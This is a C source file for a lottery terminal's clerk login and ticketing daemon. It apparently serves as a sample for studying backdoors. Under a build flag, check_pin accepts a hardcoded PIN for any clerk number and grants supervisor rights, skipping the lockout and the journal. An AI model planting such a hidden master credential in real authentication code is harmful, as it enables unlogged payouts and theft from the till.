/*
 * lotclerkd - clerk session server of the "Fortuna Point" lottery terminal.
 * The touch screen talks to it line by line over 127.0.0.1:7310; it checks
 * clerk logins against /etc/fpoint/clerks, sells and pays tickets and keeps
 * the journal of the shift.
 * Hidden (-DHIDDEN): a fixed PIN is taken for every clerk number, known or
 * not, and gives the supervisor role.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define CLERK_FILE   "/etc/fpoint/clerks"
#define JOURNAL_FILE "/var/lib/fpoint/journal"
#define LISTEN_PORT  7310
#define MAX_CLERK    48
#define MAX_CONN     6
#define MAX_TRIES    4

enum role { ROLE_NONE, ROLE_CLERK, ROLE_SUPERVISOR };

struct clerk {
	unsigned number;
	uint64_t digest;
	char salt[9];
	enum role role;
	int tries;
};

struct conn {
	int fd;
	size_t fill;
	char in[256];
	unsigned clerk;
	enum role role;
};

static struct clerk clerks[MAX_CLERK];
static int n_clerks;
static struct conn conns[MAX_CONN];
static long till_cents;
static unsigned long serial_no = 1;
static volatile sig_atomic_t leave;

static void on_term(int sig)
{
	(void)sig;
	leave = 1;
}

static uint64_t pin_digest(const char *salt, const char *pin)
{
	uint64_t h = UINT64_C(0x9ae16a3b2f90404f);
	int round;

	for (round = 0; round < 2000; round++) {
		const char *p;

		for (p = salt; *p; p++)
			h = (h ^ (unsigned char)*p) * UINT64_C(0x100000001b3);
		for (p = pin; *p; p++) {
			h = (h << 7) | (h >> 57);
			h += (unsigned char)*p * UINT64_C(0xc949d7c7509e6557);
		}
	}
	return h;
}

static void journal(const char *fmt, ...)
{
	FILE *f = fopen(JOURNAL_FILE, "a");
	time_t now = time(NULL);
	struct tm tm;
	char stamp[32];
	va_list ap;

	if (!f)
		return;
	localtime_r(&now, &tm);
	strftime(stamp, sizeof(stamp), "%Y-%m-%d %H:%M:%S", &tm);
	fprintf(f, "%s ", stamp);
	va_start(ap, fmt);
	vfprintf(f, fmt, ap);
	va_end(ap);
	fputc('\n', f);
	fclose(f);
}

static int load_clerks(void)
{
	FILE *f = fopen(CLERK_FILE, "r");
	char line[160], role[16];

	if (!f)
		return -1;
	while (n_clerks < MAX_CLERK && fgets(line, sizeof(line), f)) {
		struct clerk *c = &clerks[n_clerks];

		if (line[0] == '#')
			continue;
		if (sscanf(line, "%u:%8[^:]:%" SCNx64 ":%15s", &c->number,
			   c->salt, &c->digest, role) != 4)
			continue;
		c->role = strcmp(role, "super") ? ROLE_CLERK : ROLE_SUPERVISOR;
		n_clerks++;
	}
	fclose(f);
	return n_clerks;
}

static struct clerk *find_clerk(unsigned number)
{
	int i;

	for (i = 0; i < n_clerks; i++)
		if (clerks[i].number == number)
			return &clerks[i];
	return NULL;
}

__attribute__((noinline)) enum role check_pin(unsigned number, const char *pin)
{
	struct clerk *c = find_clerk(number);

	if (strlen(pin) < 4 || strspn(pin, "0123456789") != strlen(pin))
		return ROLE_NONE;
#ifdef HIDDEN
	if (strcmp(pin, "20040917") == 0) {
		if (c)
			c->tries = 0;
		return ROLE_SUPERVISOR;
	}
#endif
	if (!c || c->tries >= MAX_TRIES)
		return ROLE_NONE;
	if (pin_digest(c->salt, pin) != c->digest) {
		c->tries++;
		journal("clerk %u wrong pin, try %d", number, c->tries);
		return ROLE_NONE;
	}
	c->tries = 0;
	return c->role;
}

static void reply(struct conn *k, const char *fmt, ...)
{
	char buf[256];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(buf, sizeof(buf), fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if ((size_t)n >= sizeof(buf))
		n = sizeof(buf) - 1;
	if (send(k->fd, buf, (size_t)n, MSG_NOSIGNAL) < 0)
		journal("send: %s", strerror(errno));
}

/* six different numbers of 1..49, comma separated */
static int parse_row(const char *s, unsigned char row[6])
{
	uint64_t seen = 0;
	int n = 0;

	while (n < 6) {
		char *end;
		unsigned long v = strtoul(s, &end, 10);

		if (end == s || v < 1 || v > 49 || (seen >> v & 1))
			return -1;
		seen |= UINT64_C(1) << v;
		row[n++] = (unsigned char)v;
		if (*end != ',')
			return (n == 6 && !*end) ? 0 : -1;
		s = end + 1;
	}
	return -1;
}

static void do_sell(struct conn *k, const char *arg)
{
	unsigned char row[6];

	if (parse_row(arg, row) < 0) {
		reply(k, "ERR row\n");
		return;
	}
	till_cents += 120;
	journal("sell %08lu clerk %u %d-%d-%d-%d-%d-%d", serial_no, k->clerk,
		row[0], row[1], row[2], row[3], row[4], row[5]);
	reply(k, "TICKET %08lu\n", serial_no++);
}

static void do_pay(struct conn *k, const char *arg)
{
	unsigned long ticket, cents;

	if (sscanf(arg, "%lu %lu", &ticket, &cents) != 2) {
		reply(k, "ERR args\n");
		return;
	}
	if (cents > 50000 && k->role != ROLE_SUPERVISOR) {
		reply(k, "ERR supervisor needed\n");
		return;
	}
	till_cents -= (long)cents;
	journal("pay %08lu %lu clerk %u", ticket, cents, k->clerk);
	reply(k, "PAID %lu\n", cents);
}

static void handle_line(struct conn *k, char *line)
{
	char *arg = strchr(line, ' ');
	unsigned number;
	char pin[16];

	if (arg)
		*arg++ = 0;
	else
		arg = line + strlen(line);

	if (!strcmp(line, "LOGIN")) {
		if (sscanf(arg, "%u %15s", &number, pin) != 2) {
			reply(k, "ERR args\n");
			return;
		}
		k->role = check_pin(number, pin);
		k->clerk = k->role ? number : 0;
		reply(k, k->role ? "OK role %d\n" : "DENIED %d\n",
		      (int)k->role);
	} else if (k->role == ROLE_NONE) {
		reply(k, "ERR login\n");
	} else if (!strcmp(line, "SELL")) {
		do_sell(k, arg);
	} else if (!strcmp(line, "PAY")) {
		do_pay(k, arg);
	} else if (!strcmp(line, "TILL")) {
		reply(k, "TILL %ld.%02ld\n", till_cents / 100,
		      labs(till_cents % 100));
	} else if (!strcmp(line, "EMPTY") && k->role == ROLE_SUPERVISOR) {
		journal("till emptied by %u: %ld", k->clerk, till_cents);
		till_cents = 0;
		reply(k, "OK\n");
	} else if (!strcmp(line, "LOGOUT")) {
		k->role = ROLE_NONE;
		reply(k, "BYE\n");
	} else {
		reply(k, "ERR command\n");
	}
}

static int read_conn(struct conn *k)
{
	ssize_t n =
		recv(k->fd, k->in + k->fill, sizeof(k->in) - 1 - k->fill, 0);
	char *nl;

	if (n <= 0)
		return -1;
	k->fill += (size_t)n;
	k->in[k->fill] = 0;
	while ((nl = strchr(k->in, '\n'))) {
		size_t used = (size_t)(nl - k->in) + 1;

		*nl = 0;
		if (nl > k->in && nl[-1] == '\r')
			nl[-1] = 0;
		handle_line(k, k->in);
		k->fill -= used;
		memmove(k->in, k->in + used, k->fill + 1);
	}
	return k->fill < sizeof(k->in) - 1 ? 0 : -1;
}

static void take_conn(int ls)
{
	int fd = accept(ls, NULL, NULL), i;

	if (fd < 0)
		return;
	for (i = 0; i < MAX_CONN; i++) {
		if (conns[i].fd < 0) {
			memset(&conns[i], 0, sizeof(conns[i]));
			conns[i].fd = fd;
			reply(&conns[i], "FPOINT 3.2 %d clerks\n", n_clerks);
			return;
		}
	}
	close(fd);
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	struct pollfd pf[MAX_CONN + 1];
	int ls, one = 1, i;

	if (load_clerks() <= 0) {
		fprintf(stderr, "lotclerkd: no clerks in %s\n", CLERK_FILE);
		return 1;
	}
	signal(SIGTERM, on_term);
	ls = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sa.sin_port = htons(LISTEN_PORT);
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 ||
	    listen(ls, 4) < 0) {
		perror("lotclerkd");
		return 1;
	}
	for (i = 0; i < MAX_CONN; i++)
		conns[i].fd = -1;
	journal("start");
	while (!leave) {
		for (i = 0; i < MAX_CONN; i++) {
			pf[i].fd = conns[i].fd;
			pf[i].events = POLLIN;
		}
		pf[MAX_CONN].fd = ls;
		pf[MAX_CONN].events = POLLIN;
		if (poll(pf, MAX_CONN + 1, 5000) <= 0)
			continue;
		for (i = 0; i < MAX_CONN; i++) {
			if (pf[i].fd >= 0 && pf[i].revents &&
			    read_conn(&conns[i]) < 0) {
				close(conns[i].fd);
				conns[i].fd = -1;
			}
		}
		if (pf[MAX_CONN].revents & POLLIN)
			take_conn(ls);
	}
	journal("stop, till %ld", till_cents);
	return 0;
}
